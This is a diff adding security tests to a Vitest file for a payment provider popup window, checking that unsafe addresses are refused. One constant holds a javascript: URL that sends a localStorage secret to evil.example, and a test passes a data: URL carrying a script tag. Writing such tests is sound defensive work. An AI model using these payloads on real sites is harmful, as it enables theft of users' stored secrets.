@@ -4,10 +4,13 @@
  * closed when the purchase could not start. Without a window (a server), nothing happens.
  */
 import { describe, expect, it } from 'vitest';
+import { MESSAGES } from '../../domain/errors.ts';
 import { recordingWindows } from '../../test-support/recordingWindows.ts';
 import { browserOpenWindow, createProviderWindow } from './providerWindow.ts';
 
 const PAGE = 'http://127.0.0.1:4000/onramp/provider/o1?provider=meld';
+/** What a compromised cloud could answer: run as the host page in the window it opened blank. */
+const SCRIPT = "javascript:fetch('https://evil.example/?' + localStorage.getItem('secret'))";
 
 describe('provider window', () => {
   it('opens blank in the click, cut from this page, and goes to the provider page once its URL comes', () => {
@@ -69,5 +72,27 @@ describe('provider window', () => {
     provider.open();
     provider.navigate(PAGE);
     provider.close();
+  });
+
+  it('attack: a javascript: URL is refused before the kept window moves; the flow then closes it', () => {
+    const windows = recordingWindows();
+    const provider = createProviderWindow(windows.openWindow);
+    provider.open();
+    const blank = windows.opened[0]?.window.location.href;
+    expect(() => provider.navigate(SCRIPT)).toThrow(MESSAGES.unsafePageAddress);
+    expect(windows.opened[0]?.window.location.href).toBe(blank);
+    provider.close();
+    expect(windows.opened[0]?.window.closed).toBe(true);
+  });
+
+  it('attack: with the popup blocked, a data: or plain-http URL opens no window at all', () => {
+    const windows = recordingWindows({ blocked: true });
+    const provider = createProviderWindow(windows.openWindow);
+    provider.open();
+    expect(() => provider.navigate('data:text/html,<script>alert(1)</script>')).toThrow(
+      MESSAGES.unsafePageAddress,
+    );
+    expect(() => provider.navigate('http://pay.example.com/')).toThrow(MESSAGES.unsafePageAddress);
+    expect(windows.opened.map(({ url }) => url)).toEqual(['']);
   });
 });
